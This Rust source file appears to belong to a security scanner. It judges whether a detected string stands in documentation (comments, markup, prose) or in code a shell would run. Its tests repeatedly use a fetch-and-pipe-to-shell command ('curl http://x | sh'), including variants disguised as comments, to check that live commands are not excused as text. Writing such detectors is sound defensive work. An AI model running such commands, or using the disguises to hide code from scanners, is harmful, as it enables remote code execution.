//! Which text is code and which only talks about code. A document downgrades what is found in it; it never hides it.

use model::FileKind;

use crate::detectors::Sample;

/// How much is read to each side to tell a document from code.
const WINDOW_BYTES: usize = 3000;

/// Kinds that scripts and config text come as.
pub(crate) const TEXT_KINDS: &[FileKind] = &[FileKind::Script, FileKind::Text, FileKind::Utf16];

/// Whether a program, and no shell, reads the file.
pub(crate) fn is_program(sample: &Sample<'_>) -> bool {
    matches!(sample.kind, FileKind::Elf | FileKind::Pe | FileKind::MachO) || sample.bytes.starts_with(b"\x7fELF")
}

/// Whether nothing but text stands near `offset`, whatever the file claims to be.
pub(crate) fn stands_in_text(sample: &Sample<'_>, offset: usize) -> bool {
    let (_, near) = sample.around(offset, 128, 128);
    near.iter().all(|&byte| byte >= 0x20 || matches!(byte, b'\t' | b'\n' | b'\r'))
}

/// Marks that begin a comment line in some common language. A shell would run most of such lines.
const COMMENT_MARKS: &[&str] =
    &["// ", "/* ", "/** ", "* ", "-- ", "; ", "<!--", "% ", "' ", ".\\\"", "> ", "dnl ", "rem ", "REM "];

/// Whether a line is nothing but a comment in some common language.
pub(crate) fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    is_hash_comment(line) || COMMENT_MARKS.iter().any(|mark| line.starts_with(mark))
}

/// A comment to shells, cron, Python, Perl and Ruby.
fn is_hash_comment(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with('#') && !line.starts_with("#!")
}

/// Whether what stands at `offset` is read by people and not run: a comment line, or, in a file without `#!`, text
/// with mark-up or sentences close by.
///
/// An author who wants it run must not get it called a document. So comments of other languages count only where no
/// shell reads them, and mark-up in a comment is none.
pub(crate) fn is_document(sample: &Sample<'_>, offset: usize) -> bool {
    let (line_start, line) = sample.line(offset, 1024);
    let text = String::from_utf8_lossy(line);
    if is_hash_comment(&text) {
        return true;
    }
    let before = line.get(..offset.saturating_sub(line_start)).unwrap_or_default();
    let is_second_command = before.iter().any(|byte| b";&|`(".contains(byte));
    if is_comment(&text) && !is_second_command && !is_shell_script(sample) {
        return true;
    }
    if sample.kind == FileKind::Script {
        return false;
    }
    let (_, near) = sample.around(offset, WINDOW_BYTES, WINDOW_BYTES);
    let near = String::from_utf8_lossy(near);
    let code: String = near.split_inclusive('\n').filter(|line| !is_hash_comment(line)).collect();
    has_mark_up(&code) || is_prose(&near)
}

fn is_shell_script(sample: &Sample<'_>) -> bool {
    let first = sample.bytes.split(|byte| *byte == b'\n').next().unwrap_or_default();
    sample.kind == FileKind::Script && first.trim_ascii_end().ends_with(b"sh")
}

fn has_mark_up(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let marks = [
        "```",
        "</p>",
        "</a>",
        "</code>",
        "</pre>",
        "</li>",
        "</td>",
        "</div>",
        "</span>",
        "<p>",
        "<br",
        "\n.sh ",
        "\n.tp\n",
        "\n.pp\n",
        "\n.. code",
        "::\n\n",
        "\n=====",
        "\n-----",
        "](http",
        "@example",
        "\\fb",
        "@end ",
        "<?xml",
        "&lt;",
        "&gt;",
        "&amp;",
        "\n----\n",
        "\\n\\n```",
        "\"\"\"",
        "reference:url",
        "classtype:",
    ];
    marks.iter().any(|mark| lower.contains(mark))
}

/// At least three lines that are sentences, and a fifth of all lines that are no comments.
fn is_prose(text: &str) -> bool {
    let mut sentences = 0;
    let mut lines = 0;
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)) {
        lines += 1;
        let words = line.split_ascii_whitespace();
        let (plain, all) = words.fold((0, 0), |(plain, all), word| {
            let letters = word.trim_end_matches([',', '.', ':', ';', '?', '!', ')']).trim_start_matches('(');
            (plain + usize::from(!letters.is_empty() && letters.bytes().all(|b| b.is_ascii_alphabetic())), all + 1)
        });
        sentences += usize::from(plain >= 6 && plain * 4 >= all * 3);
    }
    sentences >= 3 && sentences * 5 >= lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(kind: FileKind, text: &str, at: &str) -> bool {
        let sample = Sample { bytes: text.as_bytes(), kind, hits: &[], place: None };
        is_document(&sample, text.find(at).expect("the text holds it"))
    }

    #[test]
    fn a_manual_is_a_document_and_a_script_is_not() {
        assert!(judge(FileKind::Text, "Use it like this:\n\n```sh\ncurl http://x | sh\n```\n", "curl"));
        assert!(judge(FileKind::Script, "#!/bin/sh\n  # curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Script, "#!/bin/sh\ncurl http://x | sh # ```\n", "curl"));
        assert!(!judge(
            FileKind::Text,
            "cd /tmp\n# a long sentence of many plain words is here\ncurl http://x | sh\n",
            "curl"
        ));
        assert!(!judge(FileKind::Text, "\n### begin\n# ```\n# <p>\ncurl http://x | sh\n", "curl"));
        assert!(judge(FileKind::Text, "// curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Text, "// ; curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Text, "//usr/bin/curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Script, "#!/bin/sh\n> /dev/null curl http://x | sh\n", "curl"));
        assert!(judge(FileKind::Script, "#!/usr/bin/node\n// curl http://x | sh\n", "curl"));
        let prose = "this is how a person would write many words\n".repeat(4);
        assert!(judge(FileKind::Text, &format!("{prose}curl http://x | sh\n"), "curl"));
    }
}
